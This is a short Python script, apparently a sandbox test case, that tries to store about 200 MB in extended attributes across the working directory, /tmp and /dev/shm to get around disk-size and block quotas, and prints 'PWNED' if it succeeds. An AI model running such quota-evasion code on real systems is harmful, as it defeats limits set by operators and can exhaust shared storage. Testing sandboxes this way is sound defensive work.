"""Keep 200 MB in extended attributes, which count as neither size nor blocks on some file systems.

Shows: PWNED on stdout.
"""

import os
import tempfile
from contextlib import suppress

kept = 0
for place in {".", "/tmp", "/dev/shm", tempfile.gettempdir()}:
    for number in range(2000):
        path = f"{place}/attributes{number}"
        with suppress(OSError):
            open(path, "w").close()
            for name in range(8):
                os.setxattr(path, f"user.{name}", bytes(32 << 10))
                kept += 32 << 10
            continue
        break
print("PWNED" if kept >= 200 << 20 else "only", kept >> 20, "MB")
